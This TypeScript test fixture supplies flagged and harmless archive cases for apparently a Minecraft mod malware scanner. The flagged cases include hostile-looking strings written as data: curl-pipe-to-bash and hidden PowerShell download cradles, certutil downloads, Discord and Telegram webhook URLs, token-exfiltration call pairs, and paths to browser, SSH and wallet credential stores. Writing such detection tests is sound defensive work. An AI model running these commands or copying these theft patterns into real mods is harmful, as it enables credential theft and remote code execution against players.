import { deflateRawSync } from 'node:zlib';
import type { IssueType } from '../moderation/scanner/rules.ts';
import { classFile, type Op } from './class-files.ts';
import { forgedZip, zipOf } from './zips.ts';

/** An archive, or the entries of one. */
export type GivenArchive = Record<string, string | Buffer> | (() => Buffer | Promise<Buffer>);

/** What a rule must flag, and what looks alike and must not be flagged by it. */
export interface RuleCases {
  flagged: readonly [GivenArchive, GivenArchive, GivenArchive];
  harmless: readonly [GivenArchive, GivenArchive, GivenArchive];
}

/** A mod with one class of these methods. */
const code = (methods: Record<string, readonly Op[]>, unused: readonly string[] = []): GivenArchive => ({
  'fabric.mod.json': '{}',
  'com/example/Example.class': classFile({ methods, unused }),
});
const method = (...ops: Op[]) => code({ run: ops });
const text = (value: string): Op => ['text', value];
const call = (value: string): Op => ['call', value];
const windows = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(126)]);
const linux = Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(60)]);
const macos = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(60)]);
const picture = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(60)]);
const base64 = (value: string) => Buffer.from(value).toString('base64');
const exec = call('java/lang/Runtime.exec');
const open = call('java/net/URL.openStream');
const send = call('java/net/http/HttpClient.send');
const named = (...names: string[]): GivenArchive =>
  Object.fromEntries(names.map((name) => [`a/${name}.class`, classFile({ name: `a/${name}` })]));

/** The content of `evil.jar` in the cases of known malware. */
export const known_bad = Buffer.from('the bytes of a file that is known to be malware');

export const ruleCases: Record<IssueType, RuleCases> = {
  network_address: {
    flagged: [
      method(text('https://files.example.net.test/list.json')),
      method(text('http://tracker.test/')),
      code({ a: [], b: [text('HTTPS://API.TEST/v1')] }),
    ],
    harmless: [
      method(text('http://www.w3.org/2001/XMLSchema')),
      code({ run: [] }, ['https://only.among.the.constants.test/']), // no code loads it
      method(text('ftp or http are allowed')),
    ],
  },
  raw_network_address: {
    flagged: [
      method(text('http://85.217.144.130:8080/dl')),
      method(text('45.9.148.114:443')),
      method(text('ws://203.0.114.9/socket')),
    ],
    harmless: [
      method(text('http://127.0.0.1:25565/')),
      method(text('192.168.0.1:25565')),
      method(text('1.20.4.2')), // a version
    ],
  },
  chat_webhook: {
    flagged: [
      method(text('https://discord.com/api/webhooks/123/abc'), send),
      method(text('https://discordapp.com/api/v10/webhooks/1/x')),
      method(text('https://api.telegram.org/bot123:abc/sendMessage')),
    ],
    harmless: [
      method(text('https://discord.com/invite/abc')),
      method(text('https://discord.com/developers/docs/webhooks')),
      method(text('Ask your server for a webhook of discord.com')),
    ],
  },
  hidden_text: {
    flagged: [
      method(['bytes', 'http://files.test:8080/dl'], open),
      method(text(base64('https://files.test/second-stage.jar'))),
      method(['bytes', 'java.lang.ProcessBuilder']),
    ],
    harmless: [
      method(['bytes', 'Hello, world']),
      method(text(base64('an ordinary text in base64 that says nothing'))),
      method(['number', 104], ['number', 116], ['number', 116], ['number', 112]), // numbers that are stored nowhere
    ],
  },
  process_start: {
    flagged: [
      method(text('notify-send'), exec),
      method(call('java/lang/ProcessBuilder.start')),
      code({ a: [], b: [call('java/lang/ProcessBuilder.startPipeline')] }),
    ],
    harmless: [
      method(call('java/lang/Runtime.availableProcessors')),
      method(call('com/example/Runtime.exec')),
      method(text('java/lang/Runtime.exec')),
    ],
  },
  shell_command: {
    flagged: [
      method(text('cmd.exe /c echo x > x.bat & start x.bat'), exec),
      method(text('/bin/bash'), text('-c'), call('java/lang/ProcessBuilder.start')),
      method(text('powershell'), exec),
    ],
    harmless: [
      method(text('cmd.exe /c echo %windir%'), exec), // only prints
      method(text('cmd.exe /c start calc')), // a text in a help page
      code({ a: [text('/bin/sh')], b: [exec] }), // in two methods that have nothing to do with each other
    ],
  },
  script_download: {
    flagged: [
      method(text('powershell -w hidden -c "iex (New-Object Net.WebClient)"')),
      method(text('curl -s https://files.test/x.sh | bash')),
      method(text('certutil -urlcache -f http://files.test/a.exe a.exe')),
    ],
    harmless: [
      method(text('Open a PowerShell window to see the log')),
      method(text('curl is not installed')),
      method(text('wget https://files.test/map.zip')),
    ],
  },
  class_definition: {
    flagged: [
      method(call('java/lang/ClassLoader.defineClass')),
      method(call('com/example/Example.defineClass')), // of its own loader
      method(call('java/lang/invoke/MethodHandles$Lookup.defineHiddenClass')),
    ],
    harmless: [
      method(call('java/lang/ClassLoader.loadClass')),
      method(call('java/lang/Class.forName')),
      method(text('defineClass')),
    ],
  },
  remote_code: {
    flagged: [
      code({
        load: [text('http://files.test/stage'), open],
        define: [call('java/lang/ClassLoader.defineClass')],
      }),
      method(text('https://files.test/loader.jar'), call('java/net/URLClassLoader.<init>')),
      code({
        load: [['bytes', 'http://files.test/x'], call('java/net/URL.openConnection')],
        define: [call('com/example/Example.defineClass')],
      }),
    ],
    harmless: [
      method(text('file:/mods/library.jar'), call('java/net/URLClassLoader.<init>')),
      code({
        load: [call('java/lang/Class.getResourceAsStream')],
        define: [call('java/lang/ClassLoader.defineClass')],
      }),
      method(text('https://files.test/news.json'), open),
    ],
  },
  token_access: {
    flagged: [
      method(call('net/minecraft/client/User.getAccessToken')),
      method(call('net/minecraft/class_320.method_1674')),
      method(call('net/minecraft/util/Session.getToken')),
    ],
    harmless: [
      method(call('net/minecraft/client/User.getName')),
      method(call('com/example/oauth/User.getAccessToken')),
      method(text('net/minecraft/client/User.getAccessToken()')),
    ],
  },
  token_reflection: {
    flagged: [
      method(text('method_1674'), call('java/lang/Class.getDeclaredMethod')),
      method(text('net.minecraft.client.User'), call('java/lang/reflect/Method.invoke')),
      method(text('func_148254_d'), call('java/lang/Class.getMethod')),
    ],
    harmless: [
      method(text('method_1551'), call('java/lang/Class.getDeclaredMethod')),
      method(text('net.minecraft.client.Minecraft'), call('java/lang/reflect/Method.invoke')),
      method(text('method_1674')), // a table of mappings
    ],
  },
  token_theft: {
    flagged: [
      code({
        read: [call('net/minecraft/client/User.getAccessToken')],
        post: [text('https://collect.test/'), send],
      }),
      code({
        read: [text('net.minecraft.class_320'), call('java/lang/Class.getDeclaredField')],
        post: [text('http://85.217.144.130/'), call('java/net/URL.openConnection')],
      }),
      method(call('net/minecraft/util/Session.func_148254_d'), text(base64('https://collect.test/x')), open),
    ],
    harmless: [
      method(call('net/minecraft/client/User.getAccessToken')),
      code({ post: [text('https://collect.test/'), send] }),
      code({
        read: [call('net/minecraft/client/User.getName')],
        post: [text('https://collect.test/'), send],
      }),
    ],
  },
  credential_store: {
    flagged: [
      method(text('/Google/Chrome/User Data')),
      method(text('launcher_accounts.json')),
      method(text('C:\\Users\\x\\AppData\\Roaming\\discord\\Local Storage\\leveldb')),
    ],
    harmless: [
      method(text('Your login data is wrong')),
      method(text('config/accounts.json')),
      method(text('Local State of the furnace')),
    ],
  },
  credential_theft: {
    flagged: [
      code({ read: [text('Login Data')], post: [open] }),
      code({ read: [text('/home/x/.ssh/id_rsa')], post: [send] }),
      method(text('wallet.dat'), call('java/net/Socket.connect')),
    ],
    harmless: [
      method(text('Login Data')),
      code({ read: [text('config/login.json')], post: [open] }),
      code({ post: [text('https://wallet.test/'), open] }),
    ],
  },
  autostart: {
    flagged: [
      method(text('Software\\Microsoft\\Windows\\CurrentVersion\\Run')),
      method(text('/etc/systemd/system/updater.service')),
      method(text('/Library/LaunchAgents/com.example.plist')),
    ],
    harmless: [
      method(text('Run at startup is not possible')),
      method(text('Software\\Microsoft\\Windows\\CurrentVersion\\Fonts')),
      method(text('/etc/hostname')),
    ],
  },
  native_call: {
    flagged: [
      method(call('java/lang/System.loadLibrary')),
      method(call('java/lang/System.load')),
      method(call('java/lang/Runtime.loadLibrary')),
    ],
    harmless: [
      method(call('java/lang/System.getProperty')),
      method(call('org/lwjgl/system/Library.loadSystem')),
      method(text('java.lang.System.loadLibrary')),
    ],
  },
  native_library: {
    flagged: [{ 'natives/a.dll': windows }, { 'natives/liba.so': linux }, { 'natives/liba.dylib': macos }],
    harmless: [
      { 'natives/a.dll': 'a text' },
      { 'icon.png': picture },
      { 'natives/readme.txt': 'MZ is a text' },
    ],
  },
  disguised_program: {
    flagged: [
      { 'assets/icon.png': windows },
      { 'assets/data.bin': linux },
      { 'assets/lang.json': classFile({ methods: { run: [] } }) },
    ],
    harmless: [
      { 'assets/icon.png': picture },
      { 'natives/a.dll': windows },
      { 'assets/data.bin': Buffer.alloc(64) },
    ],
  },
  obfuscated_names: {
    flagged: [
      named('IIlIl', 'lIlII', 'IlIlI', 'lllII', 'IIIIl'),
      named('OOOOo', 'oOoOo', 'O0O0O', 'oo0oo', 'o0o0o', 'Main'),
      named('do', 'if', 'int', 'for', 'new'),
    ],
    harmless: [
      named('a', 'b', 'c', 'd', 'e', 'f'), // shrunk, as many are
      named('IIlIl', 'Main', 'Config', 'Blocks', 'Items', 'Network'),
      named('Doll', 'Iffy', 'International', 'Forest', 'News'),
    ],
  },
  name_trick: {
    flagged: [
      { 'config/A.json': '{}', 'config/a.json': '{}' },
      { 'assets/gnp\u202ejar.exe': 'x' },
      () => forgedZip([{ name: 'com/example/Example.class/', content: '' }]),
    ],
    harmless: [
      { 'a/A.class': classFile({ name: 'a/A' }), 'a/a.class': classFile({ name: 'a/a' }) },
      { 'assets/مرحبا.json': '{}' },
      { 'assets/': '', 'assets/a.json': '{}' },
    ],
  },
  header_mismatch: {
    flagged: [
      () => withLocalName('com/example/Real.class', 'com/example/Fake.class'),
      () => withLocalName('fabric.mod.json', 'x'.repeat(15)),
      () => withLocalSize(),
    ],
    harmless: [
      () => forgedZip([{ name: 'fabric.mod.json', content: '{}' }]),
      () => zipOf({ 'fabric.mod.json': '{}' }, { zip64: true }),
      () => zipOf({ 'fabric.mod.json': '{}' }, { store: true }),
    ],
  },
  unreadable: {
    flagged: [
      { 'a/A.class': classFile().subarray(0, 20) },
      { 'META-INF/jars/inner.jar': 'no archive' },
      { 'a/A.class': classFile({ version: 9999 }) },
    ],
    harmless: [
      { 'a/A.class': classFile() },
      async () => zipOf({ 'META-INF/jars/inner.jar': await zipOf({ 'fabric.mod.json': '{}' }) }),
      { 'notes.txt': 'no class and no archive' },
    ],
  },
  known_malware: {
    flagged: [
      { 'evil.jar': known_bad },
      async () => zipOf({ 'META-INF/jars/a.jar': await zipOf({ 'b.jar': known_bad }) }),
      () => known_bad,
    ],
    harmless: [
      { 'evil.jar': Buffer.concat([known_bad, Buffer.from('.')]) },
      { 'evil.txt': 'a file with a bad name' },
      () => zipOf({ 'fabric.mod.json': '{}' }),
    ],
  },
};

/** An archive whose header before the content names another entry than the directory. */
function withLocalName(name: string, local: string): Buffer {
  const zip = forgedZip([{ name, content: '{}' }]);
  zip.write(local.slice(0, name.length), 30, 'latin1');
  return zip;
}

/** An archive whose header before the content gives another size. */
function withLocalSize(): Buffer {
  const content = Buffer.from('{}');
  const zip = forgedZip([{ name: 'fabric.mod.json', content }]);
  zip.writeUInt32LE(content.length + 100, 22);
  zip.writeUInt32LE(deflateRawSync(content).length, 18);
  return zip;
}

/** The bytes of an archive of the table. */
export const bytesOfCase = async (given: GivenArchive): Promise<Buffer> =>
  typeof given === 'function' ? await given() : await zipOf(given);
